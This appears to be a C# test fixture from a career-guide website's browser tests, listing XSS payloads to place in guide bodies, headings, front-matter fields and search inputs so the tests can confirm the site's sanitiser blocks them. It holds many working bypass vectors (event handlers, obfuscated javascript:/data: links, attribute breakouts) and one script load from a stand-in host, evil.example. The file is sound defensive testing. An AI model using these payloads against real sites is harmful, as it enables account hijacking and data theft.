namespace CareerGuide.Browser.Tests;

/// <summary>Where in a guide an editor could put a payload: the Markdown body, or a front-matter field.</summary>
public enum GuidePart
{
    Body,
    Heading,
    Responsibility,
    Skill,
    SalaryLevel,
    CareerStep,
    Duties,
    FaqQuestion,
    FaqAnswer,
    Title,
    Summary,
    Category,
    MedianSource,
    Education,
    Industry,
    SourceName,
    SourceUrl,
}

/// <summary>One attack an editor (or a stolen editor account) could write into a guide.</summary>
public sealed record XssPayload(GuidePart Part, string Text)
{
    public override string ToString() => $"{Part}: {Text.ReplaceLineEndings("⏎")}";
}

/// <summary>
/// The corpus: script that would run if any of it reached the page as markup. Each payload calls <c>alert</c> or sets
/// <c>window.__xss</c>, so a payload that runs is seen even where it would not leave a dangerous attribute behind.
/// </summary>
public static class XssPayloads
{
    public static IReadOnlyList<XssPayload> All { get; } =
    [
        .. RawHtml.Select(text => new XssPayload(GuidePart.Body, text)),
        .. Links.Select(text => new XssPayload(GuidePart.Body, text)),
        .. Attributes.Select(text => new XssPayload(GuidePart.Body, text)),
        .. Structured,
        .. FrontMatter,
    ];

    /// <summary>Text typed into the search box or pasted into a compare address, which the pages echo back.</summary>
    public static IReadOnlyList<string> Typed { get; } =
    [
        "<script>window.__xss=1</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "javascript:alert(1)",
        "</title><script>alert(1)</script>",
    ];

    private static string[] RawHtml =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"window.__xss=1\">",
        "<IMG SRC=x OnErRoR=alert(1)//",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:alert(1)\">raw link</a>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<button formaction=\"javascript:alert(1)\">go</button>",
        "<math><a xlink:href=\"javascript:alert(1)\">maths</a></math>",
        "<input autofocus onfocus=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<style>@import 'javascript:alert(1)';</style>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<img src=\"x\"\nonerror=\"alert(1)\">",
        "`<script>alert(1)</script>` in code",
        "*<img src=x onerror=alert(1)>* in emphasis",
        "| Cell | Other |\n| --- | --- |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
        "> <svg onload=alert(1)> in a quote",
        "- <script>alert(1)</script> in a list",
    ];

    private static string[] Links =>
    [
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](&#x6A;avascript:alert(1))",
        "[a](&#0000106;&#0000097;vascript:alert(1))",
        "[a](javascript&colon;alert(1))",
        "[a](javascript&#58;alert(1))",
        "[a](java&#9;script:alert(1))",
        "[a](java&#10;script:alert(1))",
        "[a](java&#13;script:alert(1))",
        "[a](<java\tscript:alert(1)>)",
        "[a](   javascript:alert(1))",
        "[a](&#32;javascript:alert(1))",
        "[a](\u0001javascript:alert(1))",
        "[a](%6Aavascript:alert(1))",
        "[a](javascript%3Aalert(1))",
        "[a](javascript\\:alert(1))",
        "[a](vbscript:msgbox(1))",
        "[a](VBScript:msgbox(1))",
        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[a](DATA:text/html,<script>alert(1)</script>)",
        "[a](<data:text/html,<script>alert(1)</script>>)",
        "![img](javascript:alert(1))",
        "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x\" onerror=\"alert(1)](https://example.org/x.png)",
        """[a](https://example.org "t\" onmouseover=\"alert(1)")""",
        """[a](https://example.org 'x" onmouseover="alert(1)')""",
        """[a](https://example.org/"onmouseover="alert(1))""",
        """[a"onmouseover="alert(1)](https://example.org)""",
        "[a](javascript:alert(1) \"with a title\")",
        "[[inner](javascript:alert(1))](https://example.org)",
        "[a][evil]\n\n[evil]: javascript:alert(1)",
        "[a][evil]\n\n[evil]: &#106;avascript:alert(1)",
        "[evil][]\n\n[evil]: vbscript:msgbox(1)",
        "[evil]\n\n[evil]: data:text/html,<script>alert(1)</script>",
        "[a][t]\n\n[t]: https://example.org \"x\\\" onclick=\\\"alert(1)\"",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<data:text/html;base64,PHNjcmlwdD4=>",
        """<https://example.org/"onmouseover="alert(1)>""",
        """www.example.org/"onmouseover="alert(1)""",
        "https://example.org/<script>alert(1)</script>",
        """[mail](mailto:x@example.org"onmouseover="alert(1))""",
    ];

    private static string[] Attributes =>
    [
        "[a](https://example.org){onclick=\"alert(1)\"}",
        "*hover*{onmouseover=\"alert(1)\"}",
        "### Sub heading {onclick=alert(1)}",
        "Paragraph with attributes\n{#x .y onfocus=alert(1) autofocus tabindex=1}",
        "[a](https://example.org){href=\"javascript:alert(1)\"}",
        "[a](https://example.org){style=\"background:url(javascript:alert(1))\"}",
        "### Sub {#\"><img src=x onerror=alert(1)>}",
        "### Class {.\"onmouseover=alert(1)}",
    ];

    private static XssPayload[] Structured =>
    [
        new(GuidePart.Heading, "<script>alert(1)</script>"),
        new(GuidePart.Heading, "<img src=x onerror=alert(1)> Tips"),
        new(GuidePart.Heading, "[Tips](javascript:alert(1))"),
        new(GuidePart.Heading, "Tips\" onmouseover=\"alert(1)"),
        new(GuidePart.Responsibility, "<script>alert(1)</script>"),
        new(GuidePart.Responsibility, "\"><img src=x onerror=alert(1)>"),
        new(GuidePart.Skill, "<svg onload=alert(1)>"),
        new(GuidePart.Skill, "\" onmouseover=\"alert(1)"),
        new(GuidePart.SalaryLevel, "<script>alert(1)</script>"),
        new(GuidePart.SalaryLevel, "<img src=x onerror=alert(1)>"),
        new(GuidePart.SalaryLevel, "[Senior](javascript:alert(1))"),
        new(GuidePart.CareerStep, "Lead <img src=x onerror=alert(1)>"),
        new(GuidePart.Duties, "<script>window.__xss=1</script>"),
        new(GuidePart.Duties, "<a href=\"javascript:alert(1)\">duties</a>"),
        new(GuidePart.FaqQuestion, "Is it <svg onload=alert(1)> safe?"),
        new(GuidePart.FaqQuestion, "</script><script>alert(1)</script>"),
        new(GuidePart.FaqAnswer, "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
        new(GuidePart.FaqAnswer, "[apply](javascript:alert(1))"),
    ];

    private static XssPayload[] FrontMatter =>
    [
        new(GuidePart.Title, "<script>alert(1)</script>"),
        new(GuidePart.Title, "\"><img src=x onerror=alert(1)>"),
        new(GuidePart.Title, "</title><script>alert(1)</script>"),
        new(GuidePart.Title, "Engineer\" onload=\"alert(1)"),
        new(GuidePart.Title, "</script><script>window.__xss=1</script>"),
        new(GuidePart.Summary, "<img src=x onerror=alert(1)>"),
        new(GuidePart.Summary, "\"><svg onload=alert(1)>"),
        new(GuidePart.Summary, "</script><script>alert(1)</script>"),
        new(GuidePart.Category, "<script>alert(1)</script>"),
        new(GuidePart.Category, "x\" onmouseover=\"alert(1)"),
        new(GuidePart.MedianSource, "<script>alert(1)</script>"),
        new(GuidePart.Education, "<img src=x onerror=alert(1)>"),
        new(GuidePart.Industry, "<svg onload=alert(1)>"),
        new(GuidePart.SourceName, "<img src=x onerror=alert(1)>"),
        new(GuidePart.SourceUrl, "javascript:alert(1)"),
        new(GuidePart.SourceUrl, "JaVaScRiPt:alert(1)"),
        new(GuidePart.SourceUrl, " javascript:alert(1)"),
        new(GuidePart.SourceUrl, "java\tscript:alert(1)"),
        new(GuidePart.SourceUrl, "data:text/html,<script>alert(1)</script>"),
        new(GuidePart.SourceUrl, "vbscript:msgbox(1)"),
        new(GuidePart.SourceUrl, "https://example.org/\" onmouseover=\"alert(1)"),
        new(GuidePart.SourceUrl, "https://example.org/\"><script>alert(1)</script>"),
    ];
}
